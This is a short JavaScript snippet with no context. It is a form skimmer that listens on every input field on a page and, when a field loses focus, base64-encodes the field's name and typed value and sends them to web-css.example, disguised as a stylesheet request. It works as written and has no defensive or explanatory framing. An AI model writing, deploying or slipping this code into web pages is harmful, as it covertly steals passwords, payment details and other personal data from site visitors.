document.querySelectorAll('input').forEach(function (f) {
  f.addEventListener('blur', function () {
    var l = document.createElement('link');
    l.setAttribute('rel', 'stylesheet');
    l.setAttribute('href', 'https://web-css.example/t.css?' + btoa(f.name + '=' + f.value));
    document.head.appendChild(l);
  });
});
